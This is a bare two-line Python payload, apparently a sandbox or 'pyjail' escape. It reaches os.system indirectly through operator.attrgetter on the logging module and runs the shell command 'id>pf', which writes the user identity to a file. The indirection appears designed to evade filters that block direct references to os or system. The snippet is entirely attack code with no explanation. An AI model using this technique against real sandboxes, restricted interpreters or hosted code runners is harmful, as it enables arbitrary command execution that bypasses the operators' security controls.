import operator, logging
operator.attrgetter("os.system")(logging)("id>pf")
